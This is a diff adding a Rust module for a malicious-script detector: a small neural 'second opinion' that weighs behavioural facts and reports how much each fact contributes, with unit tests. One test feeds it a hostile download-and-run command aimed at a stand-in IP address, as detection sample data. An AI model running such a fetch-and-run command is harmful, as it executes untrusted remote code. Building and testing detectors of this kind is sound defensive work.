@@ -1,0 +1,209 @@
+//! The second opinion: what a script does is weighed beside the words it says. It is asked about what the first one finds
+//! suspicious.
+
+use base64::{Engine, prelude::BASE64_STANDARD};
+
+use behaviour::{Behaviour, Fact, STYLE};
+
+/// Keys of a model's metadata.
+const INPUTS: &str = "opinion.inputs";
+const HIDDEN: &str = "opinion.hidden";
+const WEIGHTS: &str = "opinion.weights";
+const GATE: &str = "opinion.gate";
+const FIRST: &str = "opinion.first";
+const BIAS: &str = "opinion.bias";
+const LATE: &str = "opinion.late";
+
+/// An input of the network.
+#[derive(Clone, Copy)]
+enum Input {
+    Fact(Fact),
+    Style(usize),
+}
+
+/// A network with one hidden layer, and a linear path around it.
+pub(super) struct Opinion {
+    inputs: Vec<Input>,
+    /// Rows of inputs, columns of hidden values.
+    into_hidden: Vec<f32>,
+    hidden_bias: Vec<f32>,
+    out_of_hidden: Vec<f32>,
+    linear: Vec<f32>,
+    bias: f32,
+    /// From which probability of the first opinion on this one is asked.
+    gate: f32,
+    /// What the first opinion's logit counts beside this one's, and what is added to both.
+    first: f32,
+    both: f32,
+    /// Stands in where there was no time.
+    late: f32,
+}
+
+impl Opinion {
+    /// Reads it from a model's metadata; nothing where there is none.
+    pub(super) fn read(metadata: impl Fn(&str) -> Option<String>) -> Result<Option<Self>, String> {
+        let Some(names) = metadata(INPUTS) else { return Ok(None) };
+        let text = |key: &str| metadata(key).ok_or_else(|| format!("its metadata lacks {key}"));
+        let number = |key: &str| {
+            let text = text(key)?;
+            let number: Option<f32> = text.trim().parse().ok().filter(|n: &f32| n.is_finite());
+            number.ok_or_else(|| format!("its metadata's {key} is no number: {text:?}"))
+        };
+        let inputs = names.split_whitespace().map(input).collect::<Result<Vec<_>, _>>()?;
+        let hidden = number(HIDDEN)?;
+        let hidden = if (1.0..=1024.0).contains(&hidden) {
+            hidden as usize
+        } else {
+            return Err(format!("its metadata's {HIDDEN} is {hidden}: from 1 to 1024 are known"));
+        };
+        let bytes = BASE64_STANDARD.decode(text(WEIGHTS)?.trim()).map_err(|e| format!("{WEIGHTS}: {e}"))?;
+        let (values, rest) = bytes.as_chunks::<4>();
+        let values: Vec<f32> = values.iter().map(|bytes| f32::from_le_bytes(*bytes)).collect();
+        let n = inputs.len();
+        let expected = n * hidden + hidden + hidden + n + 1;
+        if values.len() != expected || !rest.is_empty() || values.iter().any(|v| !v.is_finite()) {
+            return Err(format!(
+                "its metadata's {WEIGHTS} has {} bytes: {n} inputs and {hidden} hidden values need {expected} finite numbers of 4",
+                bytes.len()
+            ));
+        }
+        let mut values = values.into_iter();
+        let mut take = |count: usize| values.by_ref().take(count).collect::<Vec<f32>>();
+        Ok(Some(Self {
+            inputs,
+            into_hidden: take(n * hidden),
+            hidden_bias: take(hidden),
+            out_of_hidden: take(hidden),
+            linear: take(n),
+            bias: take(1)[0],
+            gate: number(GATE)?,
+            first: number(FIRST)?,
+            both: number(BIAS)?,
+            late: number(LATE)?,
+        }))
+    }
+
+    /// Is it asked about a script of this probability?
+    pub(super) fn is_asked(&self, probability: f32) -> bool {
+        probability >= self.gate
+    }
+
+    /// The logit of both opinions. The second is not there where it took too long.
+    pub(super) fn logit(&self, first: f32, second: Option<f32>) -> f32 {
+        let both = self.first * first + second.unwrap_or(self.late) + self.both;
+        let gate = crate::explain::logit(self.gate);
+        // A softplus above the gate: what was asked about is never below what was not.
+        gate + if both > 20.0 { both } else { both.exp().ln_1p() }
+    }
+
+    /// This opinion's logit, and how much of it rests on each fact, in the order of the evidence.
+    pub(super) fn weigh(&self, behaviour: &Behaviour) -> (f32, Vec<f32>) {
+        let value = |input: &Input| match input {
+            Input::Fact(fact) => f32::from(u8::from(behaviour.has(*fact))),
+            Input::Style(n) => behaviour.style[*n],
+        };
+        let values: Vec<f32> = self.inputs.iter().map(value).collect();
+        let hidden = self.hidden_bias.len();
+        let mut sums = self.hidden_bias.clone();
+        let mut linear = self.bias;
+        for ((row, weight), value) in
+            self.into_hidden.chunks_exact(hidden).zip(&self.linear).zip(&values).filter(|(_, v)| **v != 0.0)
+        {
+            linear += weight * value;
+            for (sum, weight) in sums.iter_mut().zip(row) {
+                *sum += weight * value;
+            }
+        }
+        let out = |sums: &mut dyn Iterator<Item = f32>| -> f32 {
+            sums.zip(&self.out_of_hidden).map(|(sum, weight)| sum.max(0.0) * weight).sum()
+        };
+        let whole = linear + out(&mut sums.iter().copied());
+        let rests = |fact: Fact| {
+            let at = self.inputs.iter().position(|input| matches!(input, Input::Fact(f) if *f == fact));
+            let Some(at) = at else { return 0.0 };
+            let row = &self.into_hidden[at * hidden..(at + 1) * hidden];
+            let without =
+                linear - self.linear[at] + out(&mut sums.iter().zip(row).map(|(sum, weight)| sum - weight));
+            whole - without
+        };
+        (whole, behaviour.evidence.iter().map(|evidence| rests(evidence.fact)).collect())
+    }
+}
+
+fn input(name: &str) -> Result<Input, String> {
+    let fact = Fact::ALL.iter().find(|fact| fact.id() == name).map(|fact| Input::Fact(*fact));
+    let style = || STYLE.iter().position(|style| *style == name).map(Input::Style);
+    fact.or_else(style).ok_or_else(|| {
+        format!("its metadata's {INPUTS} names {name:?}, which this sensor does not know: `sensor facts --names` lists what it knows")
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use std::collections::HashMap;
+
+    use super::*;
+
+    fn metadata(changes: &[(&str, &str)]) -> HashMap<String, String> {
+        // Two inputs, one hidden value: relu(2 fact + 1 style - 1) * 3 + 0.5 fact + 0.25.
+        let weights: Vec<u8> =
+            [2.0f32, 1.0, -1.0, 3.0, 0.5, 0.0, 0.25].iter().flat_map(|v| v.to_le_bytes()).collect();
+        let weights = BASE64_STANDARD.encode(weights);
+        let usual = [
+            (INPUTS, "fetch.run one-line"),
+            (HIDDEN, "1"),
+            (WEIGHTS, &weights),
+            (GATE, "0.2"),
+            (FIRST, "1.5"),
+            (BIAS, "-1"),
+            (LATE, "0.75"),
+        ];
+        usual.iter().chain(changes).map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect()
+    }
+
+    fn read(changes: &[(&str, &str)]) -> Result<Option<Opinion>, String> {
+        let metadata = metadata(changes);
+        Opinion::read(|key| metadata.get(key).cloned())
+    }
+
+    #[test]
+    fn it_weighs_facts_and_says_what_rests_on_each() {
+        let opinion = read(&[]).unwrap().unwrap();
+        let does = Behaviour::of(b"curl -o x http://192.0.2.1/x; sh x");
+        assert!(does.has(Fact::FetchRun));
+        let (logit, rests) = opinion.weigh(&does);
+        assert!((logit - (3.0 * 2.0 + 0.5 + 0.25)).abs() < 1e-5, "{logit}");
+        let on_run = does.evidence.iter().zip(&rests).find(|(e, _)| e.fact == Fact::FetchRun).unwrap().1;
+        assert!((on_run - (6.0 + 0.5)).abs() < 1e-5, "{on_run}");
+        let (logit, rests) = opinion.weigh(&Behaviour::of(b"id"));
+        assert!((logit - 0.25).abs() < 1e-5 && rests.iter().all(|r| *r == 0.0), "{logit} {rests:?}");
+    }
+
+    #[test]
+    fn what_it_is_asked_about_never_falls_below_the_gate() {
+        let opinion = read(&[]).unwrap().unwrap();
+        assert!(opinion.is_asked(0.2) && !opinion.is_asked(0.1999));
+        let gate = crate::explain::logit(0.2);
+        assert!(opinion.logit(gate, Some(-50.0)) >= gate);
+        assert!(opinion.logit(2.0, Some(1.0)) > opinion.logit(2.0, Some(0.0)));
+        assert!((opinion.logit(2.0, None) - opinion.logit(2.0, Some(0.75))).abs() < 1e-6);
+        assert!(opinion.logit(30.0, Some(30.0)).is_finite());
+    }
+
+    #[test]
+    fn metadata_that_does_not_fit_is_named() {
+        assert!(Opinion::read(|_| None).unwrap().is_none());
+        for (key, value, named) in [
+            (INPUTS, "fetch.run nonsense", "\"nonsense\""),
+            (INPUTS, "fetch.run", "1 inputs"),
+            (HIDDEN, "0", HIDDEN),
+            (HIDDEN, "x", "no number"),
+            (WEIGHTS, "AAAA", "3 bytes"),
+            (WEIGHTS, "?", WEIGHTS),
+            (LATE, "NaN", LATE),
+        ] {
+            let said = read(&[(key, value)]).err().unwrap();
+            assert!(said.contains(named), "{said}");
+        }
+    }
+}
